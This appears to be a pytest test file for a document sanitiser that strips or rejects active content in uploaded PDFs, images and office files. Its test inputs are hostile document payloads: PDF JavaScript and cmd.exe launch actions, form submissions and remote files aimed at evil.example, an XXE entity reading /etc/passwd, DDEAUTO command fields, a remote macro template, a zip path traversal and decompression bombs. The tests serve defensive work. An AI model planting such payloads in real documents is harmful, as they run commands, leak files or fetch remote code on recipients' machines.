"""What may act, fetch or swell is taken out or refused, and never kept."""

import datetime as dt
import io
import zipfile

import pikepdf
import pytest
from asn1crypto import keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.fields import SigFieldSpec
from pyhanko.sign.signers import PdfSignatureMetadata, SimpleSigner, sign_pdf
from pyhanko_certvalidator.registry import SimpleCertificateStore

from langbiang.foundation.files.checking import kinds
from langbiang.foundation.files.checking.examining import examine
from langbiang.foundation.files.checking.kinds import Rejected
from tests.foundation.files import samples
from tests.foundation.files.samples import action, annotated, docx, odt, pdf, picture, relation, xlsx


def look(data: bytes, max_pages: int = 500):
    return examine(data, max_pages=max_pages)


def reason(data: bytes, max_pages: int = 500) -> str:
    with pytest.raises(Rejected) as refused:
        look(data, max_pages)
    return refused.value.code


@pytest.mark.parametrize(
    ("data", "mime"),
    [
        (pdf(), kinds.PDF), (picture(), kinds.JPEG), (picture("PNG"), kinds.PNG), (picture("TIFF"), kinds.TIFF),
        (docx(), kinds.DOCX), (xlsx(), kinds.XLSX), (odt(), kinds.ODT),
    ],
)  # fmt: skip
def test_a_plain_file_of_every_accepted_kind_is_kept_byte_for_byte(data, mime):
    found, kept = look(data)
    assert (found.mime, found.cleaned) == (mime, [])
    assert kept == data


# --- PDF ---------------------------------------------------------------------------------------------------------

ACTS = {
    "script": lambda: action("JavaScript", JS="app.alert(1)"),
    "program": lambda: action("Launch", F="cmd.exe"),
    "form that sends": lambda: action("SubmitForm", F="http://evil.example/"),
    "file elsewhere": lambda: action("GoToR", F="//evil.example/share/x.pdf"),
    "embedded file": lambda: action("GoToE", T=pikepdf.Dictionary(R=pikepdf.Name.C)),
    "import": lambda: action("ImportData", F="x.fdf"),
    "script address": lambda: action("URI", URI="javascript:alert(1)"),
    "file address": lambda: action("URI", URI="file:///etc/passwd"),
    "unknown kind": lambda: action("SomethingNew"),
    "print": lambda: action("Named", N=pikepdf.Name.Print),
    "script behind a link": lambda: action("URI", URI="https://a.vn", Next=action("JavaScript", JS="x")),
    "script in a row": lambda: action("URI", URI="https://a.vn", Next=pikepdf.Array([action("Launch", F="x")])),
}


def survivors(data: bytes) -> str:
    """All of a PDF in readable form."""
    with pikepdf.open(io.BytesIO(data)) as document:
        return " ".join(repr(item) for item in document.objects)


@pytest.mark.parametrize("numbered", [True, False], ids=["numbered", "inside the page"])
@pytest.mark.parametrize("name", ACTS)
def test_what_acts_on_a_click_is_taken_out_of_a_pdf(name, numbered):
    found, kept = look(pdf(lambda d: annotated(d, ACTS[name](), numbered=numbered)))
    assert found.cleaned == ["script"]
    with pikepdf.open(io.BytesIO(kept)) as document:
        note = document.pages[0].Annots[0]
        assert "/A" not in note or "/Next" not in note.A
    assert not any(word in survivors(kept) for word in ("JavaScript", "Launch", "javascript:", "file:"))


@pytest.mark.parametrize("name", ACTS)
def test_what_acts_on_opening_is_taken_out_of_a_pdf(name):
    def change(document):
        document.Root.OpenAction = document.make_indirect(ACTS[name]())
        document.pages[0].AA = pikepdf.Dictionary(O=ACTS[name]())

    found, kept = look(pdf(change))
    assert found.cleaned == ["script"]
    with pikepdf.open(io.BytesIO(kept)) as document:
        assert "/OpenAction" not in document.Root
        assert "/AA" not in document.pages[0]


def test_scripts_of_the_document_and_its_fields_are_taken_out():
    def change(document):
        document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", ACTS["script"]()]))
        field = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="tong", AA=pikepdf.Dictionary(C=ACTS["script"]()))
        document.Root.AcroForm = pikepdf.Dictionary(Fields=[field], XFA=pikepdf.Stream(document, b"<xdp/>"))

    found, kept = look(pdf(change))
    assert found.cleaned == ["form", "script"]
    assert "JavaScript" not in survivors(kept)
    assert b"xdp" not in kept


def test_attachments_are_taken_out_wherever_they_hang():
    def change(document):
        document.attachments["virus.exe"] = b"MZ\x90 not a paper"
        spec = document.attachments["virus.exe"].obj
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec
        )
        document.pages[0].Annots = pikepdf.Array([note])
        document.Root.AF = pikepdf.Array([spec])

    found, kept = look(pdf(change, compress_streams=False))
    assert found.cleaned == ["attachment"]
    assert b"not a paper" not in kept
    with pikepdf.open(io.BytesIO(kept)) as document:
        assert not document.attachments


def test_links_places_and_tagged_text_are_left_alone():
    def change(document):
        annotated(document, action("URI", URI="https://dichvucong.gov.vn"), numbered=False)
        document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
        paragraph = pikepdf.Dictionary(
            Type=pikepdf.Name.StructElem, S=pikepdf.Name.P, A=pikepdf.Dictionary(O=pikepdf.Name.Layout)
        )
        document.Root.StructTreeRoot = document.make_indirect(pikepdf.Dictionary(K=document.make_indirect(paragraph)))
        with document.open_outline() as outline:
            outline.root.extend([pikepdf.OutlineItem("Một", 0), pikepdf.OutlineItem("Hai", 0)])

    data = pdf(change)
    found, kept = look(data)
    assert found.cleaned == []
    assert kept == data


def test_a_pdf_with_a_password_is_refused():
    assert reason(pdf(encryption=pikepdf.Encryption(user="x", owner="y"))) == "encrypted"


def test_a_pdf_that_only_forbids_printing_is_kept_without_that():
    found, kept = look(pdf(encryption=pikepdf.Encryption(user="", owner="y")))
    assert found.cleaned == ["protection"]
    with pikepdf.open(io.BytesIO(kept)) as document:
        assert not document.is_encrypted


def test_a_pdf_with_a_damaged_table_is_kept_mended():
    data = pdf()
    found, kept = look(data[: data.rindex(b"startxref")])
    assert found.cleaned == ["mended"]
    assert kept.startswith(b"%PDF-")


def test_words_before_a_pdf_are_not_kept():
    found, kept = look(b"<script>alert(1)</script>\n" + pdf())
    assert kept.startswith(b"%PDF-")
    assert b"alert" not in kept
    assert "mended" in found.cleaned


@pytest.fixture(scope="module")
def signed() -> bytes:
    """A PDF signed by a real, if unknown, certificate."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "Trần Thị Bưởi")])
    now = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    certificate = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key()).serial_number(1)
        .not_valid_before(now).not_valid_after(now + dt.timedelta(days=999)).sign(key, hashes.SHA256())
    )  # fmt: skip
    signer = SimpleSigner(
        signing_cert=asn1_x509.Certificate.load(certificate.public_bytes(serialization.Encoding.DER)),
        signing_key=keys.PrivateKeyInfo.load(
            key.private_bytes(
                serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
            )
        ),
        cert_registry=SimpleCertificateStore(),
    )
    out = sign_pdf(
        IncrementalPdfFileWriter(io.BytesIO(pdf())), PdfSignatureMetadata(field_name="Ky"), signer=signer,
        new_field_spec=SigFieldSpec("Ky", box=(50, 50, 250, 120)),
    )  # fmt: skip
    return out.getvalue()


def test_a_signed_pdf_is_kept_as_it_is(signed):
    found, kept = look(signed)
    assert found.cleaned == []
    assert kept == signed


def test_a_signed_pdf_with_scripts_is_refused_rather_than_spoiled():
    def sign(document):
        document.Root.Perms = pikepdf.Dictionary(DocMDP=pikepdf.Dictionary(ByteRange=[0, 1, 2, 3]))
        document.Root.OpenAction = ACTS["script"]()

    assert reason(pdf(sign)) == "signed_active"


def test_a_pdf_with_too_many_pages_is_refused_with_both_numbers():
    with pytest.raises(Rejected) as refused:
        look(pdf(pages=4), max_pages=3)
    assert refused.value.facts == {"pages": 4, "limit": 3}


@pytest.mark.parametrize("data", [b"%PDF-1.7\nnothing here", b"%PDF-", pdf()[:200]])
def test_half_a_pdf_is_refused(data):
    assert reason(data) == "broken"


# --- pictures ----------------------------------------------------------------------------------------------------


def test_the_place_of_a_photo_is_taken_out_and_its_picture_untouched():
    data = picture(exif=samples.with_place())
    found, kept = look(data)
    assert found.cleaned == ["place"]
    before, after = Image.open(io.BytesIO(data)), Image.open(io.BytesIO(kept))
    assert 0x8825 not in after.getexif()
    assert after.getexif()[0x0112] == 6
    assert after.tobytes() == before.tobytes()


@pytest.mark.parametrize("kind", ["PNG", "TIFF"])
def test_the_place_is_taken_out_of_other_pictures_too(kind):
    found, kept = look(picture(kind, exif=samples.with_place()))
    assert found.cleaned == ["place"]
    assert 0x8825 not in Image.open(io.BytesIO(kept)).getexif()


def note(exif: bytes) -> PngInfo:
    """EXIF as ImageMagick writes it into a PNG."""
    digits = exif.hex()
    lines = "\n".join(digits[at : at + 72] for at in range(0, len(digits), 72))
    info = PngInfo()
    info.add_text("Raw profile type exif", f"\nexif\n{len(exif):8}\n{lines}\n", zip=True)
    return info


def test_the_place_in_a_note_of_a_png_is_taken_out_and_a_note_without_one_left():
    found, kept = look(picture("PNG", pnginfo=note(samples.with_place().tobytes())))
    assert found.cleaned == ["place"]
    assert b"Raw profile" not in kept
    upright = Image.Exif()
    upright[0x0112] = 6
    assert look(picture("PNG", pnginfo=note(upright.tobytes())))[0].cleaned == []


def test_what_is_hidden_behind_a_photo_is_left_off():
    found, kept = look(picture() + zip_of_something())
    assert found.cleaned == ["appended"]
    assert kept == picture()


def test_what_is_hidden_behind_a_png_is_left_off():
    found, kept = look(picture("PNG") + zip_of_something())
    assert found.cleaned == ["appended"]
    assert kept == picture("PNG")


def zip_of_something() -> bytes:
    return samples.packed({"a.html": "<script>1</script>"})


@pytest.mark.parametrize("data", [samples.png_bomb(40_000, 40_000), samples.png_bomb(2**31 - 1, 2**31 - 1)])
def test_a_picture_far_larger_than_any_scan_is_refused(data):
    assert reason(data) in ("bomb", "broken")


def test_a_tiff_whose_second_page_is_a_bomb_is_refused(monkeypatch):
    from langbiang.foundation.files.checking import pictures

    monkeypatch.setattr(pictures, "MAX_PIXELS", 50_000)
    small, large = Image.new("1", (100, 100)), Image.new("1", (400, 400))
    out = io.BytesIO()
    small.save(out, "TIFF", save_all=True, append_images=[large], compression="group4")
    assert reason(out.getvalue()) == "bomb"


def test_a_tiff_with_too_many_pages_is_refused():
    out = io.BytesIO()
    Image.new("1", (9, 9)).save(out, "TIFF", save_all=True, append_images=[Image.new("1", (9, 9))] * 4)
    assert reason(out.getvalue(), max_pages=4) == "pages"


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "TIFF"])
def test_half_a_picture_is_refused(kind):
    data = picture(kind, size=(900, 900))
    assert reason(data[: len(data) // 2]) == "broken"


# --- office files ------------------------------------------------------------------------------------------------

DOCTYPE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
SPLIT_DDE = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r>'
    "<w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r>"
)
OUTSIDE = relation("attachedTemplate", "http://evil.example/t.dotm", outside=True)


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (docx({"word/vbaProject.bin": b"x"}), "macro"),
        (docx({"[Content_Types].xml": samples.CONTENT_TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml")}), "macro"),
        (docx(body=SPLIT_DDE), "macro"),
        (docx(body='<w:fldSimple w:instr=" DDEAUTO cmd "/>'), "macro"),
        (docx({"word/media/tool.exe": b"x"}), "macro"),
        (docx({"word/media/image1.png": b"MZ\x90\x00"}), "macro"),
        (docx({"word/embeddings/oleObject1.bin": b"x"}), "embedded"),
        (docx({"word/media/image1.png": zip_of_something()}), "embedded"),
        (docx({"word/activeX/activeX1.xml": "<a/>"}), "embedded"),
        (docx({"word/_rels/settings.xml.rels": OUTSIDE}), "external"),
        (docx({"word/_rels/settings.xml.rels": OUTSIDE.replace('"External"', "'External'")}), "external"),
        (docx({"word/_rels/settings.xml.rels": OUTSIDE.replace("?>", ' encoding="utf-16"?>', 1).encode("utf-16")}), "external"),
        (docx({"word/extra.xml": DOCTYPE}), "broken"),
        (docx({"word/extra.xml": ('<?xml version="1.0" encoding="utf-16"?>' + DOCTYPE).encode("utf-16")}), "broken"),
        (docx({"word/extra.xml": "<a><b></a>"}), "broken"),
        (docx({"../../etc/cron.d/x": b"x"}), "broken"),
        (xlsx({"xl/vbaProject.bin": b"x"}), "macro"),
        (xlsx({"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'}), "macro"),
        (xlsx({"xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath", "\\\\\\\\evil\\\\x.xlsx", outside=True)}), "external"),
        (odt({"Basic/Standard/Module1.xml": "<a/>"}), "macro"),
        (odt(body='<script:event-listener script:language="Basic"/>'), "macro"),
        (odt({"Object 1/content.xml": "<a/>"}), "embedded"),
        (odt(body='<draw:image xlink:href="http://evil.example/pixel.png"/>'), "external"),
    ],
)  # fmt: skip
def test_an_office_file_that_acts_or_fetches_is_refused(data, code):
    assert reason(data) == code


def test_a_link_to_click_on_and_a_picture_inside_are_left_alone():
    rels = relation("hyperlink", "https://dichvucong.gov.vn", outside=True)
    data = docx({"word/_rels/document.xml.rels": rels, "word/media/image1.png": picture("PNG")})
    assert look(data)[1] == data


def test_a_picture_inside_an_open_document_is_left_alone():
    data = odt({"Pictures/1.png": picture("PNG")}, body='<draw:image xlink:href="Pictures/1.png"/>')
    assert look(data)[1] == data


def test_an_office_file_that_swells_is_refused_before_it_is_unpacked():
    assert reason(docx({"word/media/a.bmp": b"\0" * (60 * 1024 * 1024)})) == "bomb"


def test_an_office_file_that_lies_about_its_size_is_refused():
    data = docx({"word/media/a.bmp": b"\0" * 5_000_000})
    lie = (5_000_000).to_bytes(4, "little")
    assert reason(data.replace(lie, (1000).to_bytes(4, "little"))) == "broken"


def test_an_office_file_with_thousands_of_parts_is_refused():
    assert reason(docx({f"word/media/{n}": b"" for n in range(3100)})) == "bomb"


def test_an_office_file_with_two_parts_of_one_name_is_refused():
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as pack, pytest.warns(UserWarning, match="Duplicate"):
        pack.writestr("word/document.xml", "<other/>")
    assert reason(out.getvalue()) == "broken"


# --- everything else ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty"),
        (b" \n\t", "empty"),
        (b"MZ\x90\x00 a program", "kind"),
        (b"<html><script>alert(1)</script>", "kind"),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "kind"),
        (b"\x00\x00\x00\x18ftypheic\x00\x00", "heic"),
        (b"Rar!\x1a\x07\x00", "archive"),
        (zip_of_something(), "archive"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
        (b"PK\x03\x04 half a zip", "broken"),
    ],
)
def test_what_is_none_of_the_accepted_kinds_is_refused_by_its_content(data, code):
    assert reason(data) == code
